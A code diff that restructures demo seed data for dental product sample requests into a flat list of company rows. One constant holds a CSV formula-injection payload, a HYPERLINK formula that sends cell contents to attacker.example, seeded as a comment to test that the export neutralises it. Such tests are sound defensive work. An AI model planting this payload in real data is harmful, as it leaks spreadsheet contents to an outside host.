@@ -603,95 +603,84 @@ interface RequestSlot {
   comments?: string;
 }
 
+/** [company, requester index, status, days ago, overrides] */
 type SlotRow = [
+  companyId: DemoCompanyWithProducts,
   who: number,
   status: RequestStatus,
   daysAgo: number,
   overrides?: Pick<RequestSlot, "email" | "comments">,
 ];
 
-/** One company's slots, from short rows. */
-function slotsFor(companyId: DemoCompanyWithProducts, rows: readonly SlotRow[]): RequestSlot[] {
-  return rows.map(([who, status, daysAgo, overrides]) => ({
-    who,
-    companyId,
-    status,
-    daysAgo,
-    ...overrides,
-  }));
-}
-
 /** A comment a spreadsheet would run as a formula: the CSV export must neutralise it. */
 const CSV_FORMULA_COMMENT = '=HYPERLINK("https://attacker.example/?q="&A1,"Click for discount")';
 
-/**
- * 48 fixed slots: company, status and age are fixed; products and free text come from a seeded
- * PRNG. Each row is [requester index, status, days ago, overrides].
- */
-const SLOTS: readonly RequestSlot[] = [
-  ...slotsFor("lumina-dental", [
-    [0, "pending", 1],
-    [9, "pending", 3],
-    [12, "approved", 6],
-    [14, "completed", 18],
-    [22, "pending", 25],
-    [10, "approved", 41],
-    [25, "completed", 77],
-    [0, "completed", 130, { email: "dr.kim@example.com" }],
-    [18, "rejected", 165],
-    [30, "completed", 240],
-    [21, "completed", 372],
-    [11, "rejected", 395],
-  ]),
-  ...slotsFor("bondline", [
-    [19, "pending", 2],
-    [5, "approved", 12],
-    [0, "approved", 29, { email: "DR.KIM@EXAMPLE.COM" }],
-    [29, "completed", 58],
-    [24, "completed", 143],
-    [11, "rejected", 201],
-    [14, "completed", 381],
-  ]),
-  ...slotsFor("precision-impression", [
-    [5, "pending", 4],
-    [3, "approved", 21],
-    [17, "completed", 66],
-    [20, "completed", 112],
-    [19, "rejected", 288],
-    [29, "completed", 367],
-  ]),
-  ...slotsFor("brightarc", [
-    [22, "pending", 5],
-    [10, "pending", 9, { email: "maria.lopez@example.com" }],
-    [30, "approved", 37],
-    [18, "completed", 95, { comments: CSV_FORMULA_COMMENT }],
-    [12, "rejected", 188],
-    [28, "completed", 330],
-  ]),
-  ...slotsFor("guardent", [
-    [4, "pending", 0],
-    [16, "approved", 15],
-    [26, "completed", 49],
-    [6, "completed", 156],
-    [8, "rejected", 222],
-    [4, "completed", 389],
-  ]),
-  ...slotsFor("endopath", [
-    [2, "pending", 2],
-    [13, "approved", 11],
-    [23, "completed", 34],
-    [7, "rejected", 120],
-    [31, "completed", 259],
-    [2, "completed", 399],
-  ]),
-  ...slotsFor("alignworks", [
-    [15, "pending", 6],
-    [1, "approved", 27],
-    [27, "completed", 88],
-    [1, "rejected", 176],
-    [15, "completed", 312],
-  ]),
-];
+/** 48 fixed slots: company, status and age are fixed; products and free text come from a seeded PRNG. */
+const SLOTS: readonly RequestSlot[] = (
+  [
+    // lumina-dental ×12
+    ["lumina-dental", 0, "pending", 1],
+    ["lumina-dental", 9, "pending", 3],
+    ["lumina-dental", 12, "approved", 6],
+    ["lumina-dental", 14, "completed", 18],
+    ["lumina-dental", 22, "pending", 25],
+    ["lumina-dental", 10, "approved", 41],
+    ["lumina-dental", 25, "completed", 77],
+    ["lumina-dental", 0, "completed", 130, { email: "dr.kim@example.com" }],
+    ["lumina-dental", 18, "rejected", 165],
+    ["lumina-dental", 30, "completed", 240],
+    ["lumina-dental", 21, "completed", 372],
+    ["lumina-dental", 11, "rejected", 395],
+    // bondline ×7
+    ["bondline", 19, "pending", 2],
+    ["bondline", 5, "approved", 12],
+    ["bondline", 0, "approved", 29, { email: "DR.KIM@EXAMPLE.COM" }],
+    ["bondline", 29, "completed", 58],
+    ["bondline", 24, "completed", 143],
+    ["bondline", 11, "rejected", 201],
+    ["bondline", 14, "completed", 381],
+    // precision-impression ×6
+    ["precision-impression", 5, "pending", 4],
+    ["precision-impression", 3, "approved", 21],
+    ["precision-impression", 17, "completed", 66],
+    ["precision-impression", 20, "completed", 112],
+    ["precision-impression", 19, "rejected", 288],
+    ["precision-impression", 29, "completed", 367],
+    // brightarc ×6
+    ["brightarc", 22, "pending", 5],
+    ["brightarc", 10, "pending", 9, { email: "maria.lopez@example.com" }],
+    ["brightarc", 30, "approved", 37],
+    ["brightarc", 18, "completed", 95, { comments: CSV_FORMULA_COMMENT }],
+    ["brightarc", 12, "rejected", 188],
+    ["brightarc", 28, "completed", 330],
+    // guardent ×6
+    ["guardent", 4, "pending", 0],
+    ["guardent", 16, "approved", 15],
+    ["guardent", 26, "completed", 49],
+    ["guardent", 6, "completed", 156],
+    ["guardent", 8, "rejected", 222],
+    ["guardent", 4, "completed", 389],
+    // endopath ×6
+    ["endopath", 2, "pending", 2],
+    ["endopath", 13, "approved", 11],
+    ["endopath", 23, "completed", 34],
+    ["endopath", 7, "rejected", 120],
+    ["endopath", 31, "completed", 259],
+    ["endopath", 2, "completed", 399],
+    // alignworks ×5
+    ["alignworks", 15, "pending", 6],
+    ["alignworks", 1, "approved", 27],
+    ["alignworks", 27, "completed", 88],
+    ["alignworks", 1, "rejected", 176],
+    ["alignworks", 15, "completed", 312],
+  ] satisfies SlotRow[]
+).map(([companyId, who, status, daysAgo, overrides]) => ({
+  companyId,
+  who,
+  status,
+  daysAgo,
+  ...overrides,
+}));
 
 const SPECIFIC_REQUESTS: readonly string[] = [
   "Shade A2 and A3 if possible.",
